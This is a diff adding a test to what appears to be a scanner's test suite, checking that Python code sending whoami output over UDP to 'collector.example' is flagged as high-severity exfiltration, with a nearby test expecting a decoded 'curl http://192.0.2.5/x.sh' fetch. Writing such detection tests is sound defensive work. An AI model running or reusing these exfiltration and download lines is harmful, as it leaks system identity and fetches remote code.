@@ -508,3 +508,18 @@ test('a long chr() + chr() chain, reversed() characters and a maketrans substitu
     assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/, how);
   }
 });
+
+test("the output of whoami, hostname or id sent out is the machine's identity sent", () => {
+  const source = [
+    'import socket, subprocess',
+    'out = subprocess.check_output("whoami", shell=True)',
+    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+    's.sendto(out, ("collector.example", 53))',
+    '',
+  ].join('\n');
+  const sent = ruleOf(findings(source, 'demo/__init__.py'), 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /the output of whoami/);
+  const printed = 'import subprocess\nprint(subprocess.check_output(["uname", "-s"]))\n';
+  assert.equal(ruleOf(findings(printed), 'exfiltration'), undefined, 'shown to the user, not sent');
+});
